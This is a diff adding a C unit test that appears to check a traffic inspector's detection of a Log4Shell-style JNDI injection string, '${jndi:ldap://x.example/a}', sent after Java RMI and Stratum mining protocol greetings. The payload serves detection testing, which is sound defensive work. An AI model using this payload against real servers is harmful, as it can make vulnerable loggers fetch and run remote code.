@@ -65,3 +65,22 @@ START_TEST(a_record_of_data_before_any_hello_is_said)
 	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 0);
 }
 END_TEST
+
+// A server that logs lines does not know these protocols, and takes what a parser passes over.
+START_TEST(what_parsers_pass_over_is_searched)
+{
+	static const struct bytes greetings[] = {{(const uint8_t *)"JRMI\0\2K", 7}, {(const uint8_t *)"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", 51}};
+	static const uint8_t apps[] = {APP_RMI, APP_STRATUM};
+
+	for (size_t i = 0; i < 2; i++) {
+		setup();
+		flow.direction = DIRECTION_IN;
+		feed_bytes(true, greetings[i]);
+		ck_assert_int_eq(app, apps[i]);
+		say(true, "<13>${jndi:ldap://x.example/a}\n");
+		ck_assert_uint_eq(seen(OBS_JNDI), 1);
+		teardown();
+	}
+	setup();
+}
+END_TEST
